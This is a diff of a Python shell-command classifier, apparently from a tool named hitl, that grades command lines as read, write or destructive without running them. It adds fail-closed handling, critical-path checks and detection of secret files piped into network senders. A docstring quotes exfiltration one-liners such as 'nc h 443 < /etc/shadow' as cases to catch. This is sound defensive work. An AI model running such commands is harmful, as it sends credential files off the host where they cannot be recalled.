@@ -1,20 +1,30 @@
 """Rules over the IR: every simple command, substitution, redirect and nested script gives findings; the
 tier of the whole is the highest finding. The classifier never runs anything.
+
+Longer than most modules on purpose: `_Analysis` is one recursion (script -> command -> selection -> nested
+script) whose steps share its findings, policy and working directory; the analyzers (analyzers/), grammars
+(grammar.py), rule loading (loader.py) and the verb lexicon (lexicon.py) live outside it.
 """
 
 from __future__ import annotations
 
-import re
-from collections.abc import Callable
-from dataclasses import dataclass
+import logging
+import posixpath
+from collections.abc import Iterable
+from dataclasses import dataclass, replace
 
-from console.core.classify import snippets
-from console.core.classify.args import parse_args
-from console.core.classify.guards import MAX_INPUT_BYTES, suspicious_characters
+from console.core.classify import analyzers
+from console.core.classify.analyzers import Context
+from console.core.classify.args import ParsedArgs, parse_args
+from console.core.classify.grammar import prove
+from console.core.classify.guards import MAX_INPUT_BYTES, ascii_reading, suspicious_characters
 from console.core.classify.ir import Redirect, Script, SimpleCommand, Word
-from console.core.classify.model import CaptureStrategy, Classification, Target, TargetKind
+from console.core.classify.loader import default_rules
+from console.core.classify.model import CaptureStrategy, Classification, Target, TargetKind, shown
 from console.core.classify.parse import parse_script
-from console.core.classify.rules import Effect, RuleSet, Selection, default_rules
+from console.core.classify.policy import Policy as PathPolicy
+from console.core.classify.rules import Effect, RuleSet, Selection
+from console.core.classify.workdir import join
 from console.core.tiers import Tier
 
 # `bash -c "eval 'sh -c ...'"`: past this many nested scripts we stop reading and fail closed.
@@ -29,9 +39,11 @@ _CONTEXT_WORDS = {
     "heredoc": "in a heredoc",
 }
 _EMPTY_PRODUCERS = frozenset({":", "true", "false"})
-_CRON_SETTING = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*\s*=")
-_SHELL_LANG = {"psql": "postgres", "mysql": "mysql", "mariadb": "mysql", "sqlite3": "sqlite"}
-_DB_CAPTURE: dict[str, CaptureStrategy] = {"postgres": "pg_dump", "mysql": "mysqldump", "sqlite": "sqlite"}
+_log = logging.getLogger(__name__)
+_TARGET_DIRECTORY = frozenset({"-t", "--target-directory"})
+
+# A working directory: the path as the line sets it ("" = where the line started) and whether it is known.
+Place = tuple[str, bool]
 
 
 @dataclass(frozen=True, slots=True)
@@ -43,13 +55,56 @@ class Finding:
     consequence: str | None = None
 
 
-def classify(command: str, *, rules: RuleSet | None = None, unknown_tier: Tier = Tier.WRITE) -> Classification:
-    """Classify one command line into READ / WRITE / DESTRUCTIVE, with reasons, targets and a capture plan."""
+def classify(
+    command: str,
+    *,
+    rules: RuleSet | None = None,
+    unknown_tier: Tier = Tier.WRITE,
+    critical_paths: Iterable[str] = (),
+) -> Classification:
+    """Classify one command line into READ / WRITE / DESTRUCTIVE, with reasons, targets and a capture plan.
+
+    `critical_paths`: more paths that no command may write without a typed confirmation, each with
+    everything below it (the session passes hitl's own config, rules, hosts, known_hosts and data
+    directories; the default locations and `$HITL_HOME` spellings are in the shipped policy already).
+
+    Never raises: a command that makes the classifier itself fail is DESTRUCTIVE ("could not read"), the
+    same verdict as text it cannot parse.
+    """
     if unknown_tier == Tier.READ:
         unknown_tier = Tier.WRITE  # an unknown program is never run without a look
-    analysis = _Analysis(rules or default_rules(), unknown_tier)
-    analysis.run(command)
-    return analysis.result(command)
+    try:
+        analysis = _Analysis(rules or default_rules(), unknown_tier, tuple(str(p) for p in critical_paths))
+        analysis.run(command)
+        return analysis.result(command)
+    except Exception as error:  # fail closed: any internal error is a verdict, never a traceback
+        _log.debug("classifier failed on %r", command, exc_info=True)
+        return Classification(
+            command=command,
+            tier=Tier.DESTRUCTIVE,
+            reasons=(f"hitl could not read this command (internal error: {type(error).__name__}: {error})",),
+            consequence="hitl could not analyse this command, so nothing is known about what it changes; "
+            "there is no rollback.",
+        )
+
+
+def critical_reason(path: str, *, rules: RuleSet | None = None, critical_paths: Iterable[str] = ()) -> str | None:
+    """Why writing `path` is DESTRUCTIVE whatever writes it ("a critical system file", "a whole system tree"),
+    or None: the predicate `classify` applies to paths as written, for callers that know the path as the host
+    resolves it (the capture plan checks every target after following symlinks and `..` on the host)."""
+    policy = (rules or default_rules()).policy
+    extra = tuple(str(p) for p in critical_paths)
+    return _critical(policy.with_critical(extra) if extra else policy, path)
+
+
+def _critical(policy: PathPolicy, path: str) -> str | None:
+    if path in policy.neutral_paths:
+        return None
+    if policy.is_critical(path) or path.startswith("/dev/"):
+        return "a critical system file"
+    if policy.is_vital(path):
+        return "a whole system tree"
+    return None
 
 
 def _join(parts: list[str]) -> str:
@@ -57,16 +112,24 @@ def _join(parts: list[str]) -> str:
 
 
 class _Analysis:
-    def __init__(self, rules: RuleSet, unknown_tier: Tier) -> None:
+    def __init__(self, rules: RuleSet, unknown_tier: Tier, critical_paths: tuple[str, ...] = ()) -> None:
         self.rules = rules
-        self.policy = rules.policy
+        self.policy = rules.policy.with_critical(critical_paths) if critical_paths else rules.policy
         self.unknown_tier = unknown_tier
         self.findings: list[Finding] = []
+        self.lowered: list[str] = []  # user rules that lowered a shipped tier (`lower = true`)
+        # Whose `~` the shell being read expands (None: the login user's), and the user (and whether as a login
+        # shell) a wrapper like `sudo -u bob` runs the next nested shell as.
+        self.user: str | None = None
+        self.pending: tuple[str, bool] | None = None
+        # Above zero while reading what runs on another machine or file system (`ssh host ...`, `docker exec`,
+        # `chroot DIR`): its paths are not this host's, so nothing is captured for it here.
+        self.away = 0
 
     # Entry and result -----------------------------------------------------------------------------
 
     def run(self, command: str) -> None:
-        if len(command.encode("utf-8", "surrogatepass")) > MAX_INPUT_BYTES:
+        if len(command) * 4 > MAX_INPUT_BYTES and len(command.encode("utf-8", "surrogatepass")) > MAX_INPUT_BYTES:
             self.add(Tier.DESTRUCTIVE, f"the command is larger than {MAX_INPUT_BYTES // 1024} KiB and was not analysed")
             return
         if not command.strip():
@@ -75,6 +138,14 @@ class _Analysis:
         for problem in suspicious_characters(command):
             self.add(Tier.WRITE, f"contains {problem}: the shell may not run what is shown")
         self.script(command, 0, "")
+        reading = ascii_reading(command)
+        if reading is not None:
+            # Fail closed on look-alikes: never READ, and as bad as the line it imitates.
+            alternative, characters = reading
+            self.add(Tier.WRITE, f"contains {_join(characters)}: what runs may not be what is shown")
+            mark = len(self.findings)
+            self.script(alternative, 0, " (reading the look-alike characters as the ASCII they imitate)")
+            self.findings[mark:] = [f for f in self.findings[mark:] if f.tier > Tier.READ]
 
     def add(
         self,
@@ -84,18 +155,32 @@ class _Analysis:
         capture: tuple[CaptureStrategy, ...] = (),
         consequence: str | None = None,
     ) -> None:
-        self.findings.append(Finding(tier, reason, targets, capture, consequence))
+        self.findings.append(Finding(tier, reason, targets, () if self.away else capture, consequence))
 
     def result(self, command: str) -> Classification:
-        if not self.findings:
+        findings = self.findings
+        if not findings:
             return Classification(command=command, tier=Tier.READ, reasons=("only reads",))
-        tier = max(f.tier for f in self.findings)
-        top = [f for f in self.findings if f.tier == tier]
-        reasons = tuple(dict.fromkeys(f.reason for f in top if f.reason))
-        changing = [f for f in self.findings if f.tier > Tier.READ]
+        tier = max([f.tier for f in findings])
+        if tier == Tier.READ:
+            reasons = tuple(dict.fromkeys([shown(f.reason) for f in findings if f.reason]))
+            return Classification(command, tier, reasons or ("only reads",), lowered_by=tuple(self.lowered))
+        top = [f for f in findings if f.tier == tier]
+        reasons = tuple(dict.fromkeys([shown(f.reason) for f in top if f.reason]))
+        changing = [f for f in findings if f.tier > Tier.READ]
         targets = tuple(dict.fromkeys(t for f in changing for t in f.targets))
         capture = tuple(dict.fromkeys(c for f in changing for c in f.capture))
-        if any(t.kind == "path" and ("$" in t.value or "`" in t.value) for t in targets):
+        footprint = tuple(
+            dict.fromkeys(
+                t
+                for f in changing
+                if "files" in f.capture or "sqlite" in f.capture
+                for t in f.targets
+                if t.kind in ("path", "sqlite")
+            )
+        )
+        uncaptured = tuple(dict.fromkeys(shown(f.reason) for f in changing if not f.capture and f.reason))
+        if any(t.kind == "path" and ("$" in t.value or "`" in t.value or not t.cwd_known) for t in targets):
             capture = tuple(c for c in capture if c != "files")  # `files` needs every path known
         consequence = None
         if tier == Tier.DESTRUCTIVE:
@@ -105,15 +190,49 @@ class _Analysis:
                 consequence = (first.reason[:1].upper() + first.reason[1:]).rstrip(".") + "."
                 if not capture:
                     consequence += " Nothing can be captured first, so there is no rollback."
-        return Classification(command, tier, reasons or ("only reads",), targets, consequence, capture)
+            consequence = shown(consequence)
+        return Classification(
+            command,
+            tier,
+            reasons or ("only reads",),
+            targets,
+            consequence,
+            capture,
+            tuple(self.lowered),
+            footprint,
+            uncaptured,
+        )
 
     # Scripts --------------------------------------------------------------------------------------
 
-    def script(self, text: str, depth: int, where: str) -> None:
+    def switch_user(self, switch: tuple[str, bool] | None) -> tuple[str, bool] | None:
+        before, self.pending = self.pending, switch
+        return before
+
+    def script(self, text: str, depth: int, where: str, cwd: str = "", cwd_known: bool = True) -> None:
+        switch, self.pending = self.pending, None
+        user = self.user
+        if switch is not None:
+            self.user = switch[0]
+        try:
+            self._script(text, depth, where, cwd, cwd_known)
+        finally:
+            self.user, self.pending = user, switch
+
+    def _script(self, text: str, depth: int, where: str, cwd: str, cwd_known: bool) -> None:
         if depth > MAX_SCRIPT_DEPTH:
             self.add(Tier.DESTRUCTIVE, f"scripts nested more than {MAX_SCRIPT_DEPTH} deep{where} were not analysed")
             return
-        parsed = parse_script(text)
+        parsed = parse_script(text, cwd=cwd, cwd_known=cwd_known)
+        for reason in parsed.hidden:
+            self.add(
+                Tier.DESTRUCTIVE,
+                f"{reason}{where}",
+                consequence="Runs code hitl cannot see: a value from outside the command line is evaluated by "
+                "the shell, so nobody has reviewed what it does.",
+            )
+        for nested, inside in parsed.nested:
+            self.script(nested, depth + 1, f"{inside}{where}", cwd, cwd_known)
         if parsed.errors:
             self.add(
                 Tier.DESTRUCTIVE,
@@ -128,20 +247,49 @@ class _Analysis:
         for cmd in parsed.commands:
             self.command(cmd, parsed, depth, where)
 
-    def assignment(self, name: str, value: Word, cmd: SimpleCommand | None, where: str) -> None:
-        if self.policy.is_dangerous_env(name):
-            runs = f"`{cmd.argv[0].text}`" if cmd is not None and cmd.argv else "later commands"
-            self.add(Tier.DESTRUCTIVE, f"`{name}={value.text}` changes what {runs} actually runs{where}")
+    def assignment(self, name: str, value: Word, cmd: SimpleCommand | None, where: str, depth: int = 0) -> None:
+        if not self.policy.is_dangerous_env(name):
+            return
+        policy = self.policy
+        if cmd is not None and cmd.argv and name in policy.prefix_env:
+            return  # `IFS=: read -ra dirs`: only how that one command splits words
+        runs = f"`{cmd.argv[0].text}`" if cmd is not None and cmd.argv else "later commands"
+        if name in policy.command_env and not value.dynamic:
+            # `PAGER=cat git log`: the value is a command line; it is as safe as what it runs.
+            mark = len(self.findings)
+            self.script(value.text, depth + 1, f" as `{name}` for {runs}{where}")
+            if any(f.tier > Tier.READ for f in self.findings[mark:]):
+                self.add(
+                    Tier.DESTRUCTIVE, f"`{name}={value.text}` makes {runs} run a command that is not a read{where}"
+                )
+            return
+        self.add(Tier.DESTRUCTIVE, f"`{name}={value.text}` changes what {runs} actually runs{where}")
 
     def command(self, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
         context = _CONTEXT_WORDS.get(cmd.context, "")
         here = f" {context}{where}" if context else where
         for name, value in cmd.assignments:
             self.assignment(name, value, cmd, here)
+        mark = len(self.findings)
         for redirect in cmd.redirects:
             self.redirect(redirect, cmd, here)
         if cmd.argv:
             self.argv(cmd.argv, cmd, script, depth, here)
+            if cmd.stdin is not None and any(f.tier > Tier.READ for f in self.findings[mark:]):
+                self.secret_input(cmd, here)
+
+    def secret_input(self, cmd: SimpleCommand, where: str) -> None:
+        """A command that sends or writes, fed a secret file (`nc h 443 < /etc/shadow`, `cat key | curl -T -`)."""
+        stdin = cmd.stdin
+        assert stdin is not None
+        words = [stdin.source] if stdin.kind == "file" else stdin.source.split()
+        secret = next((w for w in words if self.policy.is_secret(w.strip("'\"")) and w != "-"), None)
+        if secret is not None:
+            self.add(
+                Tier.DESTRUCTIVE,
+                f"`{cmd.argv[0].text}` is fed the secret file {secret}, and it does not only read{where}",
+                consequence=f"The contents of {secret} may leave this host; they cannot be called back.",
+            )
 
     # Redirects ------------------------------------------------------------------------------------
 
@@ -153,16 +301,8 @@ class _Analysis:
         if path in self.policy.neutral_paths:
             return
         verb = "appends to" if ">>" in redirect.op else "overwrites"
-        if target.dynamic:
-            self.add(
-                Tier.WRITE, f"a redirect {verb} `{path}`, a path only known at run time{where}", (Target("path", path),)
-            )
-            return
-        targets = (Target("path", path),)
-        if self.policy.is_critical(path) or path.startswith("/dev/"):
-            self.add(Tier.DESTRUCTIVE, f"a redirect {verb} {path}, a critical system file{where}", targets, ("files",))
-            return
-        if redirect.truncates and cmd is not None:
+        located = self.path_target(path, redirect.cwd, redirect.cwd_known)
+        if not target.dynamic and redirect.truncates and cmd is not None and not self.critical(located):
             operands = {w.text for w in cmd.argv[1:]} | {
                 r.target.text for r in cmd.redirects if r.op == "<" and r.target
             }
@@ -171,14 +311,48 @@ class _Analysis:
                 self.add(
                     Tier.DESTRUCTIVE,
                     f"`> {path}` empties {path} before {reader} reads it{where}",
-                    targets,
+                    (located,),
                     ("files",),
                 )
                 return
             if _produces_nothing(cmd):
-                self.add(Tier.DESTRUCTIVE, f"`> {path}` empties {path}{where}", targets, ("files",))
+                self.add(Tier.DESTRUCTIVE, f"`> {path}` empties {path}{where}", (located,), ("files",))
                 return
-        self.add(Tier.WRITE, f"a redirect {verb} {path}{where}", targets, ("files",))
+        self.writes(target, redirect.cwd, redirect.cwd_known, f"a redirect {verb}", where)
+
+    def path_target(self, text: str, cwd: str, cwd_known: bool, kind: TargetKind = "path") -> Target:
+        """A path as a target: joined with the directory the line moved to, when it is known. Inside a shell
+        that runs as another user (`sudo -u bob sh -c ...`), `~` is written `~bob`."""
+        if not cwd_known:
+            return Target(kind, self.home(text), self.home(cwd), False)
+        return Target(kind, self.home(join(cwd, text)), self.home(cwd))
+
+    def home(self, path: str) -> str:
+        if self.user is not None and (path == "~" or path.startswith("~/")):
+            return f"~{self.user}{path[1:]}"
+        return path
+
+    def critical(self, target: Target) -> str | None:
+        """Why writing `target` is DESTRUCTIVE whatever writes it (a critical file, a whole system tree, a
+        device), or None. A path in an unknown directory is checked as written."""
+        return _critical(self.policy, target.value)
+
+    def writes(self, word: Word, cwd: str, cwd_known: bool, how: str, where: str) -> None:
+        """Any writer (a redirect, `tee`, `find -fprint`, sed `w`, awk `print >`, an output option): onto a
+        critical path it is DESTRUCTIVE whatever the tool; a thrown-away output is nothing."""
+        path = word.text
+        if path in self.policy.neutral_paths:
+            return
+        target = self.path_target(path, cwd, cwd_known)
+        shown = target.value
+        danger = self.critical(target)
+        if word.dynamic and danger is None:
+            self.add(Tier.WRITE, f"{how} `{path}`, a path only known at run time{where}", (target,))
+            return
+        if danger is not None:
+            self.add(Tier.DESTRUCTIVE, f"{how} {shown}, {danger}{where}", (target,), ("files",))
+            return
+        self.add(Tier.WRITE, f"{how} {shown}{where}", (target,), ("files",))
 
     # Simple commands ------------------------------------------------------------------------------
 
@@ -208,7 +382,13 @@ class _Analysis:
         base = name.rsplit("/", 1)[-1] if "/" in name else name
         rule = self.rules.lookup(base)
         if rule is None:
-            if "/" in name and not name.startswith(("/bin/", "/usr/", "/sbin/")):
+            if "/" in name and self.policy.is_untrusted(join(cmd.cwd, name)):
+                self.add(
+                    Tier.DESTRUCTIVE,
+                    f"runs `{name}` from a place anyone can write to, code nobody has reviewed{where}",
+                    consequence=f"Runs {name}, which nobody has reviewed; it can do anything this user can.",
+                )
+            elif "/" in name and not name.startswith(("/bin/", "/usr/", "/sbin/")):
                 self.add(self.unknown_tier, f"runs `{name}`, a program or script hitl cannot see{where}")
             else:
                 self.add(self.unknown_tier, f"`{base}` has no rule, so hitl cannot say it only reads{where}")
@@ -216,30 +396,165 @@ class _Analysis:
         args = argv[1:]
         if len(args) == 1 and args[0].text in ("--help", "--version"):
             return
-        for selection in self.rules.resolve(base, args):
-            self.selection(selection, cmd, script, depth, where)
-
-    def selection(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        analyzer = sel.rule.analyzer
-        if analyzer == "wrapper" and sel.clause is None and self.unwrap(sel, cmd, script, depth, where):
+        selections = self.rules.resolve(base, args, rule)
+        shipped = self.rules.base
+        users = [s.rule for s in selections if not s.rule.builtin]
+        if not users or shipped is None or shipped.lookup(base) is None:
+            self.apply(selections, cmd, script, depth, where)
             return
-        self.effect(sel, sel.effect, where)
-        if analyzer is not None and analyzer != "wrapper":
-            getattr(self, "an_" + analyzer.replace("-", "_"))(sel, cmd, script, depth, where)
+        # A user rule touched a command the shipped rules know: it may raise the tier, and lower it only
+        # when it says `lower = true`.
+        mark = len(self.findings)
+        self.apply(selections, cmd, script, depth, where)
+        mine = self.findings[mark:]
+        del self.findings[mark:]
+        own_rules, self.rules = self.rules, shipped
+        try:
+            self.apply(shipped.resolve(base, args), cmd, script, depth, where)
+        finally:
+            self.rules = own_rules
+        theirs = self.findings[mark:]
+        del self.findings[mark:]
+        mine_tier = max((f.tier for f in mine), default=Tier.READ)
+        theirs_tier = max((f.tier for f in theirs), default=Tier.READ)
+        self.findings += mine
+        if mine_tier >= theirs_tier:
+            return
+        rule = users[-1]
+        said = f"the user rule '{rule.command}' ({rule.source})"
+        shown = cmd.display(40) if cmd.argv and cmd.argv[0] is head else " ".join(w.text for w in argv)[:40]
+        if any(r.lower for r in users):
+            self.lowered.append(f"{said} lowered `{shown}` from {theirs_tier.name} to {mine_tier.name}")
+            return
+        self.findings += theirs
+        self.add(
+            theirs_tier,
+            f"{said} would make `{shown}` {mine_tier.name}, lower than hitl's own rule; lowering needs "
+            f"`lower = true` in the rule{where}",
+        )
 
-    def effect(self, sel: Selection, effect: Effect, where: str) -> None:
-        shown = f"{sel.written or sel.rule.command} {sel.shown}".strip()
-        targets = self.targets(sel, effect)
+    def apply(self, selections: list[Selection], cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
+        """Each part of a command line in turn (`git -C x` then `log ...`): its effect and analyzer, and,
+        where it would be READ, the proof that every argument only reads."""
+        if not selections:
+            return
+        reading = selections[-1].effect.tier == Tier.READ
+        cwd: Place = (cmd.cwd, cmd.cwd_known)
+        for sel in selections:
+            cwd = _moved(sel, cwd)
+            if not sel.final and sel.clause is None:
+                if reading:
+                    self.prove(sel, sel.args, where, cwd)  # the options before the sub-command
+                continue
+            self.selection(sel, cmd, script, depth, where, cwd=cwd)
+
+    def prove(self, sel: Selection, args: list[Word], where: str, cwd: Place, *, strict: bool = True) -> None:
+        """Check `args` (some or all of the selection's words) against the rule's argument grammar. Not
+        `strict`: only report what writes or runs (for a selection that is not READ anyway)."""
+        grammar = sel.grammar
+        shown = sel.written or sel.rule.command
+        if grammar is None:
+            if strict and sel.rule.builtin and args:
+                self.add(
+                    Tier.WRITE,
+                    f"hitl has no argument grammar for `{shown}`, so it cannot show that "
+                    f"`{shown} {' '.join(w.text for w in args)[:40]}` only reads{where}",
+                )
+            return
+        parsed = sel.parsed if args is sel.args else self.parse(sel, args)
+        proof = prove(grammar, parsed)
+        if strict:
+            for option in proof.unknown:
+                self.add(
+                    Tier.WRITE,
+                    f"`{shown} {option}` is an option hitl does not know for `{shown}`, so it cannot show the "
+                    f"command only reads{where}",
+                )
+            for option, value in proof.refused:
+                self.add(Tier.WRITE, f"`{shown} {option} {value}` is not a use of {option} known to only read{where}")
+            if proof.extra_operands:
+                self.add(
+                    Tier.WRITE,
+                    f"`{shown}` is given operands where hitl does not know it only reads "
+                    f"({_join(proof.extra_operands)}){where}",
+                )
+        for option, path in proof.written:
+            if path == "-":
+                continue  # `--trace-ascii -`, `-o -`: standard output
+            word = next((w for w in args if w.text == path or w.text.endswith("=" + path)), Word(path))
+            how = f"`{shown}` writes to its {option}" if option.startswith("operand") else f"`{shown} {option}` writes"
+            self.writes(Word(path, word.dynamic), *cwd, how, where)
+        for option, path in proof.loaded:
+            what = f"`{shown} {option}` loads" if option else f"`{shown}` runs or loads"
+            if self.policy.is_untrusted(join(cwd[0], path)):
+                self.add(
+                    Tier.DESTRUCTIVE,
+                    f"{what} {path}, from a place anyone can write to: code nobody has reviewed{where}",
+                    consequence=f"Runs or trusts {path}, which nobody has reviewed.",
+                )
+            elif strict:
+                self.add(Tier.WRITE, f"{what} {path}, code or configuration hitl cannot see{where}")
+        for path in proof.started:
+            if self.policy.is_untrusted(join(cwd[0], path)):
+                self.add(
+                    Tier.DESTRUCTIVE,
+                    f"`{shown}` may start {path}, from a place anyone can write to: code nobody has reviewed{where}",
+                    consequence=f"Runs {path}, which nobody has reviewed.",
+                )
+        for option, value in proof.run:
+            self.add(
+                Tier.DESTRUCTIVE,
+                f"`{shown} {option}` runs {value or 'a program'}, which hitl cannot check{where}",
+                consequence=f"Runs {value or 'a program'} through `{shown} {option}`; nobody has reviewed it.",
+            )
+
+    def parse(self, sel: Selection, args: list[Word]) -> ParsedArgs:
+        rule = sel.rule
+        return parse_args(args, rule.value_options, words=rule.words, stop_after=rule.final_options)
+
+    def selection(
+        self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str, *, cwd: Place
+    ) -> None:
+        """The rule's effect, and what its analyzer finds. An analyzer that accounts for the command itself
+        (a wrapper that found the command it runs) replaces the effect."""
+        name = sel.rule.analyzer
+        spec = analyzers.get(name) if name is not None else None
+        reading = sel.effect.tier == Tier.READ
+        if spec is None:
+            self.findings.append(self.effect(sel, sel.effect, where, cwd))
+            self.prove(sel, sel.args, where, cwd, strict=reading)
+            return
+        position = len(self.findings)
+        if cwd != (cmd.cwd, cmd.cwd_known):
+            cmd = replace(cmd, cwd=cwd[0], cwd_known=cwd[1])
+        context = Context(sel, cmd, script, depth, where, self)
+        if not spec.run(context):
+            self.findings.insert(position, self.effect(sel, sel.effect, where, cwd))
+            if not context.proved:
+                self.prove(sel, sel.args, where, cwd, strict=reading)
+
+    def effect(self, sel: Selection, effect: Effect, where: str, cwd: Place) -> Finding:
+        shown = sel.written or sel.rule.command
+        if sel.shown:
+            shown = f"{shown} {sel.shown}"
+        if effect.targets == "none" and effect.tier == Tier.READ:
+            # The common case (a read with nothing to name): no targets, no capture, no consequence.
+            return Finding(Tier.READ, f"`{shown}` {effect.plain}{where}")
+        words = self.target_words(sel, effect)
+        targets = self.targets(sel, effect, words, cwd)
         tier = effect.tier
         texts = [t.value or ("the current user" if t.kind == "crontab" else "") for t in targets]
         does = effect.does
         extra = ""
         if tier > Tier.READ and effect.kind == "path":
-            bad = [t for t in texts if self.policy.is_critical(t) or self.policy.is_vital(t)]
-            if bad and tier < Tier.DESTRUCTIVE:
+            candidates = list(targets)
+            if effect.targets == "into" and len(words) == 1 and len(sel.parsed.operands) == 2:
+                # `cp x /etc/ssh`: a directory destination receives /etc/ssh/x
+                into = join(words[0].text, posixpath.basename(sel.parsed.operands[0].text.rstrip("/")))
+                candidates.append(self.path_target(into, *cwd))
+            bad = list(dict.fromkeys(t.value for t in candidates if self.critical(t) is not None))
+            if bad:
                 tier = Tier.DESTRUCTIVE
-                extra = f" ({_join(bad)}: critical to the system)"
-            elif bad:
                 extra = f" ({_join(bad)}: critical to the system)"
         named = _join(texts) if texts else ""
         if "{targets}" in does:
@@ -256,13 +571,12 @@ class _Analysis:
         ):
             tier = Tier.READ  # `tee /dev/null`, `curl -o /dev/null`: the output is thrown away
         capture = effect.capture
-        dynamic = any(w.dynamic for w in self.target_words(sel, effect))
-        if "files" in capture and (dynamic or not targets):
+        if "files" in capture and (any(w.dynamic for w in words) or not targets):
             capture = tuple(c for c in capture if c != "files")
         consequence = effect.consequence.replace("{targets}", named) if effect.consequence else None
-        self.findings.append(
-            Finding(tier, reason, targets if tier > Tier.READ else (), capture if tier > Tier.READ else (), consequence)
-        )
+        if tier == Tier.READ or self.away:
+            capture = ()
+        return Finding(tier, reason, targets if tier > Tier.READ else (), capture, consequence)
 
     def target_words(self, sel: Selection, effect: Effect) -> list[Word]:
         how = effect.targets
@@ -277,365 +591,56 @@ class _Analysis:
             return operands[1:]
         if how == "init":
             return operands[:-1]
+        if how == "into":
+            directory = next((v for n, v in sel.parsed.options if n in _TARGET_DIRECTORY), None)
+            if directory is not None:  # `cp -t DIR a b` writes DIR/a and DIR/b
+                return [Word(join(directory, posixpath.basename(w.text.rstrip("/"))), w.dynamic) for w in operands]
+            if len(operands) > 2 or (len(operands) == 2 and operands[-1].text.endswith("/")):
+                last = operands[-1]
+                return [
+                    Word(join(last.text, posixpath.basename(w.text.rstrip("/"))), w.dynamic or last.dynamic)
+                    for w in operands[:-1]
+                ]
+            return operands[-1:]
         if how.startswith("option:"):
             names = set(how[len("option:") :].split(","))
             return [Word(value) for name, value in sel.parsed.options if name in names]
+        if how.startswith("assign:"):  # `dd of=PATH`: operands written KEY=VALUE
+            key = how[len("assign:") :] + "="
+            return [Word(w.text[len(key) :], w.dynamic) for w in operands if w.text.startswith(key)]
         return []
 
-    def targets(self, sel: Selection, effect: Effect) -> tuple[Target, ...]:
+    def targets(self, sel: Selection, effect: Effect, words: list[Word], cwd: Place) -> tuple[Target, ...]:
         if effect.targets == "none":
             return ()
         if effect.targets == "value":
+            if effect.kind == "path":
+                return (self.path_target(effect.target_value, *cwd),)
             return (Target(effect.kind, effect.target_value),)
-        words = self.target_words(sel, effect)
-        if not words and effect.targets.startswith("option:") and effect.kind != "path":
-            return (Target(effect.kind, effect.target_value),)
+        if not words and effect.targets.startswith("option:"):
+            if effect.kind != "path":
+                return (Target(effect.kind, effect.target_value),)
+            if effect.target_value:  # `7z x a.7z` without -o extracts into the working directory
+                return (self.path_target(effect.target_value, *cwd),)
+        if effect.kind in ("path", "sqlite"):
+            words = [w for w in words if w.text != "-"]  # `-O -`, `-o -`: standard output, not a file
+            return tuple(self.path_target(w.text, *cwd, kind=effect.kind) for w in words)
         return tuple(Target(effect.kind, w.text) for w in words)
 
-    # Analyzers ------------------------------------------------------------------------------------
 
-    def unwrap(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> bool:
-        """`sudo`, `env`, `timeout 5`, `xargs -0`...: classify the command they run. False when they run none."""
-        params = sel.rule.params
-        parsed = parse_args(sel.args, sel.rule.value_options, stop_at_operand=True)
-        index = parsed.first_operand_index
-        rest = sel.args[index:] if index is not None else []
-        script_option = params.get("script_option")
-        for name, value in parsed.options:
-            if _is_option(name, script_option):
-                self.script(value, depth + 1, f" inside `{sel.rule.command} {name}`{where}")
-                return True
-        if params.get("assignments"):
-            while rest and "=" in rest[0].text and not rest[0].text.startswith("="):
-                key, _, value = rest[0].text.partition("=")
-                self.assignment(key, Word(value, rest[0].dynamic), None, where)
-                rest = rest[1:]
-        ignored = params.get("ignore_operands", [])
-        while rest and rest[0].text in ignored:  # `su - root`: the lone `-` means "login shell", not a user
-            rest = rest[1:]
-        skip = int(params.get("skip_operands", 0))
-        if any(name in params.get("no_skip_with", []) for name, _ in parsed.options):
-            skip = 0  # `runuser -u app -- cmd`: the user came as an option, so the first operand is the command
-        rest = rest[skip:]
-        if len(rest) > 1 and _is_option(rest[0].text, script_option):
-            # GNU option order: `flock FILE -c CMD`, `su USER -c CMD`
-            self.script(rest[1].text, depth + 1, f" inside `{sel.rule.command} {rest[0].text}`{where}")
-            return True
-        stop_at = params.get("stop_at")
-        if isinstance(stop_at, str):
-            rest = [w for w in rest[: next((i for i, w in enumerate(rest) if w.text == stop_at), len(rest))]]
-        if not rest:
-            return False
-        inner_where = f" via `{sel.rule.command}`{where}"
-        if params.get("joins_script"):
-            self.script(" ".join(w.text for w in rest), depth + 1, inner_where)
-        else:
-            self.argv(rest, cmd, script, depth, inner_where)
-        return True
-
-    def an_shell(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        name = sel.rule.command
-        codes = sel.parsed.values("-c")
-        if codes:
-            code = codes[0]
-            if any(w.dynamic and w.text == code for w in sel.args):
-                self.add(Tier.DESTRUCTIVE, f"`{name} -c` runs code only known at run time{where}")
-                return
-            self.script(code, depth + 1, f" inside `{name} -c`{where}")
-            return
-        if sel.parsed.operands and sel.parsed.operands[0].dynamic and "-s" not in sel.parsed.names:
-            self.add(
-                Tier.DESTRUCTIVE,
-                f"`{name}` runs {sel.parsed.operands[0].text}, code only known at run time{where}",
-                consequence="Runs code that is produced when the command runs; nobody has reviewed it.",
-            )
-            return
-        if sel.parsed.operands and "-s" not in sel.parsed.names:
-            self.add(
-                Tier.WRITE,
-                f"`{name}` runs the script {sel.parsed.operands[0].text}, which hitl cannot see{where}",
-                (Target("path", sel.parsed.operands[0].text),),
-            )
-            return
-        self.stdin_code(cmd, depth, where, name, lambda text, w: self.script(text, depth + 1, w))
-
-    def stdin_code(
-        self, cmd: SimpleCommand, depth: int, where: str, name: str, analyse: Callable[[str, str], None]
-    ) -> None:
-        stdin = cmd.stdin
-        if stdin is None:
-            self.add(Tier.WRITE, f"`{name}` opens an interactive session where anything can be typed{where}")
-        elif stdin.text is not None:
-            analyse(stdin.text, f" fed to `{name}` from {stdin.source}{where}")
-        else:
-            self.add(
-                Tier.DESTRUCTIVE,
-                f"`{name}` runs what `{stdin.source}` produces, which hitl cannot see{where}",
-                consequence=f"Runs code from `{stdin.source}` that nobody has reviewed.",
-            )
-
-    def an_eval(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        mode = sel.rule.params.get("code")
-        if mode == "first-operand":  # trap 'code' SIGNAL...
-            words = sel.parsed.operands[:1]
-        elif mode == "after-equals":  # alias name='code'
-            words = [Word(w.text.partition("=")[2], w.dynamic) for w in sel.args if "=" in w.text]
-        else:
-            words = sel.args
-        if not words:
-            return
